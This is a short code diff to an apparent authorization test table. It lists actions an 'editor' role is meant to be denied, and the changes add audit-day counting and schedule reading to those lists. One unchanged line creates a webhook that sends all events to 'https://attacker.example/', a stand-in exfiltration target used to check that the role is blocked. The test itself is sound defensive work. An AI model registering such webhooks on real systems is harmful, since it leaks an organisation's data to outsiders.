@@ -55,7 +55,11 @@ const BEYOND: [role: Role, what: string, callsOf: (scene: Scene) => Call[]][] = 
       { deleteMany: 'articles', ids: [sealed.id] },
     ],
   ],
-  ['editor', 'read the audit trail or have it verified', () => [{ list: 'changes' }, { ask: 'verifyAuditTrail' }]],
+  [
+    'editor',
+    'read the audit trail or have it verified',
+    () => [{ list: 'changes' }, { ask: 'verifyAuditTrail' }, { ask: 'countAuditDays' }],
+  ],
   [
     'editor',
     'read webhooks, their log, or make one',
@@ -65,7 +69,11 @@ const BEYOND: [role: Role, what: string, callsOf: (scene: Scene) => Call[]][] = 
       { ask: 'createWebhook', input: { url: 'https://attacker.example/', events: ['*'] } },
     ],
   ],
-  ['editor', 'read tasks and their numbers', () => [{ list: 'tasks' }, { ask: 'readTaskStats' }]],
+  [
+    'editor',
+    'read tasks and their numbers',
+    () => [{ list: 'tasks' }, { ask: 'readTaskStats' }, { ask: 'readSchedules' }],
+  ],
   [
     'editor',
     'read invitations or invite',
